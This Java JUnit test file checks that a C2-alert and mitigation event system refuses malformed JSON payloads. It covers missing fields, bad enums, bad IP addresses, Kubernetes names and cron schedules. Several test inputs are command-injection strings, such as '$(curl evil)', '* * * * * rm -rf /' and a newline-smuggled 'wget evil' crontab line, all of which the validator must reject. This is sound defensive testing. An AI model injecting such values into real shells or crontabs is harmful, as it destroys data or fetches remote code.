package io.c2intents.events;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Instant;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullAndEmptySource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Every kind of bad payload is refused with a {@link ContractViolation} whose message names the offending field,
 * so a DLQ reason or a problem+json detail tells the sender what to fix. Each case breaks one thing in an
 * otherwise valid example.
 */
class ContractRefusalTest {

    /** Reads {@code json}, expects a refusal, and returns its problems. */
    private static ContractViolation refused(Contract<?> contract, String json) {
        ContractViolation violation = catchThrowableOfType(ContractViolation.class, () -> contract.read(json));
        assertThat(violation).as("%s must be refused by %s", json, contract.name()).isNotNull();
        assertThat(violation.contract()).isEqualTo(contract.name());
        assertThat(violation.getMessage()).startsWith("invalid " + contract.name() + ": ");
        assertThat(violation.problems()).isNotEmpty().allSatisfy(p -> assertThat(p).startsWith("$"));
        return violation;
    }

    /** Asserts one problem is about exactly {@code path} (e.g. {@code $.pod.name}). */
    private static void assertNames(ContractViolation violation, String path) {
        assertThat(violation.problems()).anySatisfy(p -> assertThat(p).startsWith(path + ": "));
        assertThat(violation.getMessage()).contains(path + ": ");
    }

    // ---- missing required fields

    @Test
    void alertWithoutPodIsRefused() {
        ContractViolation v = refused(Contracts.C2_ALERT, Examples.broken(Contracts.C2_ALERT, a -> a.remove("pod")));
        assertNames(v, "$.pod");
        assertThat(v.problems()).containsExactly("$.pod: is missing");
    }

    @Test
    void alertWithoutPodNameIsRefusedNamingTheNestedField() {
        ContractViolation v = refused(Contracts.C2_ALERT,
                Examples.broken(Contracts.C2_ALERT, a -> ((ObjectNode) a.get("pod")).remove("name")));
        assertNames(v, "$.pod.name");
    }

    @Test
    void everyMissingFieldIsNamedAtOnce() {
        ContractViolation v = refused(Contracts.MITIGATION_EVENT,
                Examples.broken(Contracts.MITIGATION_EVENT, e -> e.remove(java.util.List.of("eventId", "status", "at"))));
        assertThat(v.problems()).containsExactly("$.at: is missing", "$.eventId: is missing", "$.status: is missing");
    }

    @Test
    void intentWithoutTechniquesIsRefused() {
        assertNames(refused(Contracts.SECURITY_INTENT,
                Examples.broken(Contracts.SECURITY_INTENT, i -> i.remove("techniques"))), "$.techniques");
        assertNames(refused(Contracts.SECURITY_INTENT,
                Examples.broken(Contracts.SECURITY_INTENT, i -> i.putArray("techniques"))), "$.techniques");
    }

    // ---- values outside the vocabulary

    @Test
    void unknownDetectorIsRefused() {
        ContractViolation v = refused(Contracts.C2_ALERT,
                Examples.broken(Contracts.C2_ALERT, a -> a.put("detector", "heuristic")));
        assertNames(v, "$.detector");
        assertThat(v.getMessage()).contains("indicator", "baseline", "beaconing");
    }

    @ParameterizedTest
    @ValueSource(strings = {"DONE", "applied", ""})
    void unknownMitigationStatusIsRefused(String status) {
        assertNames(refused(Contracts.MITIGATION_EVENT,
                Examples.broken(Contracts.MITIGATION_EVENT, e -> e.put("status", status))), "$.status");
    }

    @Test
    void unknownRequestModeIsRefused() {
        assertNames(refused(Contracts.MITIGATION_REQUEST,
                Examples.broken(Contracts.MITIGATION_REQUEST, r -> r.put("mode", "apply-now"))), "$.mode");
    }

    @Test
    void unknownTechniqueInAnIntentIsRefused() {
        assertNames(refused(Contracts.SECURITY_INTENT, Examples.broken(Contracts.SECURITY_INTENT,
                i -> i.putArray("techniques").add("D3-NTF").add("D3-NUKE"))), "$.techniques[1]");
    }

    @Test
    void unknownSimulatorCommandTypeIsRefused() {
        assertNames(refused(Contracts.SIMULATOR_COMMAND,
                Examples.broken(Contracts.SIMULATOR_COMMAND, c -> c.put("type", "rm -rf"))), "$.type");
    }

    @Test
    void newerSchemaVersionIsRefused() {
        assertNames(refused(Contracts.C2_ALERT,
                Examples.broken(Contracts.C2_ALERT, a -> a.put("schemaVersion", 2))), "$.schemaVersion");
    }

    // ---- numbers and formats

    @ParameterizedTest
    @ValueSource(doubles = {1.01, 2, -0.1})
    void scoreOutsideZeroToOneIsRefused(double score) {
        assertNames(refused(Contracts.C2_ALERT,
                Examples.broken(Contracts.C2_ALERT, a -> a.put("score", score))), "$.score");
    }

    @Test
    void scoreAsTextIsRefused() {
        assertNames(refused(Contracts.C2_ALERT,
                Examples.broken(Contracts.C2_ALERT, a -> a.put("score", "high"))), "$.score");
    }

    @Test
    void minScoreAboveOneInAnIntentIsRefused() {
        assertNames(refused(Contracts.SECURITY_INTENT, Examples.broken(Contracts.SECURITY_INTENT,
                i -> ((ObjectNode) i.get("trigger")).put("minScore", 1.5))), "$.trigger.minScore");
    }

    @ParameterizedTest
    @ValueSource(strings = {"1.1.1.300", "1.1.1", "01.1.1.1", "one.one.one.one", "1.1.1.1; reboot", "1.1.1.1 ",
            "1.1.1.1\n* * * * * wget evil", "1.1.1.1\n", "$(curl evil)", "1.1.1.0/24", "::1"})
    void badC2AddressInASimulatorCommandIsRefused(String address) {
        assertNames(refused(Contracts.SIMULATOR_COMMAND,
                Examples.broken(Contracts.SIMULATOR_COMMAND, c -> c.put("c2Address", address))), "$.c2Address");
    }

    @ParameterizedTest
    @ValueSource(strings = {"8.8.8.8", "0.0.0.0", "255.255.255.255", "10.244.1.37"})
    void anyIpv4IsAcceptedAsC2Address(String address) {
        String json = Examples.broken(Contracts.SIMULATOR_COMMAND, c -> c.put("c2Address", address));
        assertThat(Contracts.SIMULATOR_COMMAND.read(json).c2Address()).isEqualTo(address);
    }

    @ParameterizedTest
    @ValueSource(strings = {"10.0.0.999", "c2.example.com", "world"})
    void alertDestinationMustBeAnIpAddress(String destination) {
        assertNames(refused(Contracts.C2_ALERT,
                Examples.broken(Contracts.C2_ALERT, a -> a.put("destination", destination))), "$.destination");
    }

    @Test
    void alertDestinationMayBeIpv6() {
        String json = Examples.broken(Contracts.C2_ALERT, a -> a.put("destination", "2606:4700:4700::1111"));
        assertThat(Contracts.C2_ALERT.read(json).destination()).isEqualTo("2606:4700:4700::1111");
    }

    @ParameterizedTest
    @ValueSource(strings = {"yesterday", "2026-03-14 09:21:00", "2026-03-14T09:21:00", "1710408060"})
    void timeThatIsNotRfc3339IsRefused(String time) {
        assertNames(refused(Contracts.C2_ALERT,
                Examples.broken(Contracts.C2_ALERT, a -> a.put("detectedAt", time))), "$.detectedAt");
    }

    @ParameterizedTest
    @ValueSource(strings = {"2 minutes", "P1D", "PT", "PT2M\n", "-PT2M"})
    void verificationWindowThatIsNotAnIsoDurationIsRefused(String window) {
        assertNames(refused(Contracts.SECURITY_INTENT,
                Examples.broken(Contracts.SECURITY_INTENT, i -> i.put("verificationWindow", window))),
                "$.verificationWindow");
    }

    @ParameterizedTest
    @ValueSource(ints = {0, -1, 10001})
    void rateLimitOutOfRangeIsRefused(int limit) {
        assertNames(refused(Contracts.SECURITY_INTENT,
                Examples.broken(Contracts.SECURITY_INTENT, i -> i.put("rateLimitPerMinute", limit))),
                "$.rateLimitPerMinute");
    }

    // ---- Kubernetes names (DNS-1123)

    @ParameterizedTest
    @ValueSource(strings = {"Target_7", "-target", "target-", "target 7", "target-7\n", "target/7", ""})
    void badPodNameInASimulatorCommandIsRefused(String pod) {
        assertNames(refused(Contracts.SIMULATOR_COMMAND,
                Examples.broken(Contracts.SIMULATOR_COMMAND, c -> c.put("pod", pod))), "$.pod");
    }

    @ParameterizedTest
    @ValueSource(strings = {"C2-Lab", "c2_lab", "c2.lab", "a234567890123456789012345678901234567890123456789012345678901234"})
    void badNamespaceIsRefused(String namespace) {
        assertNames(refused(Contracts.SIMULATOR_COMMAND,
                Examples.broken(Contracts.SIMULATOR_COMMAND, c -> c.put("namespace", namespace))), "$.namespace");
        assertNames(refused(Contracts.C2_ALERT, Examples.broken(Contracts.C2_ALERT,
                a -> ((ObjectNode) a.get("pod")).put("namespace", namespace))), "$.pod.namespace");
        assertNames(refused(Contracts.MITIGATION_REQUEST, Examples.broken(Contracts.MITIGATION_REQUEST,
                r -> ((ObjectNode) r.get("target")).put("namespace", namespace))), "$.target.namespace");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Contain-C2", "contain_c2", "contain.c2",
            "a234567890123456789012345678901234567890123456789012345678901234"})
    void badIntentNameIsRefused(String name) {
        assertNames(refused(Contracts.SECURITY_INTENT,
                Examples.broken(Contracts.SECURITY_INTENT, i -> i.put("name", name))), "$.name");
    }

    @Test
    void badExcludedNamespaceInAnIntentIsRefused() {
        assertNames(refused(Contracts.SECURITY_INTENT, Examples.broken(Contracts.SECURITY_INTENT,
                i -> ((ObjectNode) i.get("scope")).putArray("excludedNamespaces").add("Kube-System"))),
                "$.scope.excludedNamespaces[0]");
    }

    // ---- cron schedules: they end up in a crontab line, so nothing but five plain fields

    @ParameterizedTest
    @ValueSource(strings = {"* * * *", "* * * * * *", "@reboot", "* * * * * rm -rf /", "*  * * * *",
            "* * * * *\n* * * * * wget evil", "* * * * *\n", "* * * * *;reboot", "$(reboot) * * * *", "a b c d e", ""})
    void badCronScheduleIsRefused(String schedule) {
        assertNames(refused(Contracts.SIMULATOR_COMMAND,
                Examples.broken(Contracts.SIMULATOR_COMMAND, c -> c.put("schedule", schedule))), "$.schedule");
    }

    @ParameterizedTest
    @ValueSource(strings = {"*/5 * * * *", "0 3 * * 1-5", "0,30 * * * *"})
    void plainCronScheduleIsAccepted(String schedule) {
        String json = Examples.broken(Contracts.SIMULATOR_COMMAND, c -> c.put("schedule", schedule));
        assertThat(Contracts.SIMULATOR_COMMAND.read(json).schedule()).isEqualTo(schedule);
    }

    // ---- rules that depend on the request mode

    @ParameterizedTest
    @ValueSource(strings = {"apply", "dry-run"})
    void applyOrDryRunWithoutTargetIsRefused(String mode) {
        ContractViolation v = refused(Contracts.MITIGATION_REQUEST, Examples.broken(Contracts.MITIGATION_REQUEST,
                r -> r.put("mode", mode).remove("target")));
        assertThat(v.problems()).containsExactly("$.target: is missing");
    }

    @Test
    void applyNamingNeitherActionNorTechniqueIsRefusedNamingBoth() {
        ContractViolation v = refused(Contracts.MITIGATION_REQUEST, Examples.broken(Contracts.MITIGATION_REQUEST,
                r -> r.remove(java.util.List.of("action", "technique"))));
        assertNames(v, "$.action");
        assertNames(v, "$.technique");
        assertThat(v.getMessage()).contains("alternatives");
    }

    @Test
    void applyNamingOnlyATechniqueIsAccepted() {
        String json = Examples.broken(Contracts.MITIGATION_REQUEST, r -> r.remove("action"));
        assertThat(Contracts.MITIGATION_REQUEST.read(json).technique()).isEqualTo("D3-NTF");
    }

    @Test
    void approveWithoutReferenceIsRefused() {
        ContractViolation v = refused(Contracts.MITIGATION_REQUEST, Examples.broken(Contracts.MITIGATION_REQUEST,
                r -> r.put("mode", "approve")));
        assertThat(v.problems()).containsExactly("$.reference: is missing");
    }

    @Test
    void approveWithReferenceIsAccepted() {
        String json = Examples.broken(Contracts.MITIGATION_REQUEST, r -> {
            r.put("mode", "approve").put("reference", "evt-2b7f0c4e-91d3-4a6e-8f25-c3d1e07a9b44");
            r.remove(java.util.List.of("action", "technique", "target"));
        });
        assertThat(Contracts.MITIGATION_REQUEST.read(json).reference()).startsWith("evt-");
    }

    @Test
    void revertWithNeitherReferenceNorTargetIsRefused() {
        ContractViolation v = refused(Contracts.MITIGATION_REQUEST, Examples.broken(Contracts.MITIGATION_REQUEST,
                r -> r.put("mode", "revert").remove("target")));
        assertNames(v, "$.reference");
        assertNames(v, "$.target");
    }

    @Test
    void podTargetWithoutNamespaceIsRefused() {
        assertNames(refused(Contracts.MITIGATION_REQUEST, Examples.broken(Contracts.MITIGATION_REQUEST,
                r -> ((ObjectNode) r.get("target")).remove("namespace"))), "$.target.namespace");
    }

    @Test
    void nodeTargetNeedsNoNamespace() {
        String json = Examples.broken(Contracts.MITIGATION_REQUEST, r -> {
            r.put("action", "node:drain").put("technique", "D3-HS");
            r.putObject("target").put("kind", "node").put("name", "lab-worker-1");
        });
        assertThat(Contracts.MITIGATION_REQUEST.read(json).target()).isEqualTo(new Target(TargetKind.NODE, null, "lab-worker-1"));
    }

    @Test
    void invalidEmbeddedAlertIsRefusedNamingItsField() {
        assertNames(refused(Contracts.MITIGATION_REQUEST, Examples.broken(Contracts.MITIGATION_REQUEST,
                r -> ((ObjectNode) r.get("alert")).put("score", 7))), "$.alert.score");
        assertNames(refused(Contracts.MITIGATION_REQUEST, Examples.broken(Contracts.MITIGATION_REQUEST,
                r -> ((ObjectNode) r.get("alert")).remove("destination"))), "$.alert.destination");
    }

    @Test
    void badActionAddressIsRefused() {
        assertNames(refused(Contracts.MITIGATION_REQUEST, Examples.broken(Contracts.MITIGATION_REQUEST,
                r -> r.put("action", "quarantine"))), "$.action");
    }

    // ---- not a payload at all

    @ParameterizedTest
    @ValueSource(strings = {"{not json", "<alert/>", "{\"schemaVersion\":1,", "schemaVersion=1", "{\"a\":1} trailing",
            "{\"a\":1}{\"b\":2}"})
    void nonJsonIsRefused(String text) {
        ContractViolation v = refused(Contracts.C2_ALERT, text);
        assertThat(v.problems()).singleElement().asString().startsWith("$: not JSON");
    }

    @ParameterizedTest
    @NullAndEmptySource
    @ValueSource(strings = {"   ", "\n"})
    void emptyPayloadIsRefused(String text) {
        ContractViolation v = refused(Contracts.MITIGATION_REQUEST, text);
        assertThat(v.problems()).containsExactly("$: empty payload, expected a JSON object");
    }

    @ParameterizedTest
    @ValueSource(strings = {"null", "[]", "42", "\"c2-alert\"", "true"})
    void jsonThatIsNotAnObjectIsRefused(String json) {
        ContractViolation v = refused(Contracts.C2_ALERT, json);
        assertThat(v.problems()).singleElement().asString().startsWith("$: ").contains("object expected");
    }

    // ---- writing

    @Test
    void writeRefusesAnAlertWithAScoreAboveOne() {
        C2Alert valid = Contracts.C2_ALERT.read(Examples.text(Contracts.C2_ALERT));
        C2Alert invalid = new C2Alert(valid.schemaVersion(), valid.id(), valid.revision(), valid.detectedAt(),
                valid.pod(), valid.destination(), valid.protocol(), valid.attackTechnique(), valid.detector(), 1.5,
                valid.firstSeen(), valid.lastSeen(), valid.count(), valid.evidence(), valid.reason());

        assertThatThrownBy(() -> Contracts.C2_ALERT.write(invalid))
                .isInstanceOf(ContractViolation.class)
                .hasMessageContaining("$.score: ");
    }

    @Test
    void writeRefusesACommandThatWouldInjectIntoACrontab() {
        SimulatorCommand command = new SimulatorCommand(SimulatorCommand.SCHEMA_VERSION, "cmd-1",
                SimulatorCommandType.INFECT, Instant.parse("2026-03-14T09:20:31Z"), "c2-lab", null,
                "1.1.1.1 && reboot", "* * * * *");

        assertThatThrownBy(() -> Contracts.SIMULATOR_COMMAND.write(command))
                .isInstanceOf(ContractViolation.class)
                .hasMessageContaining("$.c2Address: ");
    }

    @Test
    void writeRefusesAnApplyRequestWithoutTarget() {
        MitigationRequest request = new MitigationRequest(MitigationRequest.SCHEMA_VERSION, "req-1",
                MitigationMode.APPLY, "cilium:quarantine", "D3-NTF", null, Map.of(), null, null, null, "test",
                Instant.parse("2026-03-14T09:21:12Z"));

        assertThatThrownBy(() -> Contracts.MITIGATION_REQUEST.write(request))
                .isInstanceOf(ContractViolation.class)
                .hasMessage("invalid mitigation-request: $.target: is missing");
    }

    @Test
    void writeRefusesARecordMissingARequiredField() {
        SimulatorEvent event = new SimulatorEvent(SimulatorEvent.SCHEMA_VERSION, "cmd-1", SimulatorCommandType.INFECT,
                null, Instant.parse("2026-03-14T09:20:32Z"), "infected", Map.of());

        assertThatThrownBy(() -> Contracts.SIMULATOR_EVENT.write(event))
                .isInstanceOf(ContractViolation.class)
                .hasMessage("invalid simulator-event: $.outcome: is missing");
    }

    @Test
    void writeRefusesNull() {
        assertThatThrownBy(() -> Contracts.C2_ALERT.write(null))
                .isInstanceOf(ContractViolation.class)
                .hasMessageContaining("$: no payload");
    }

    @Test
    void writeAcceptsTheMinimalCommand() {
        SimulatorCommand deploy = SimulatorCommand.of("cmd-2", SimulatorCommandType.DEPLOY);

        assertThat(Contracts.SIMULATOR_COMMAND.read(Contracts.SIMULATOR_COMMAND.write(deploy))).isEqualTo(deploy);
    }
}
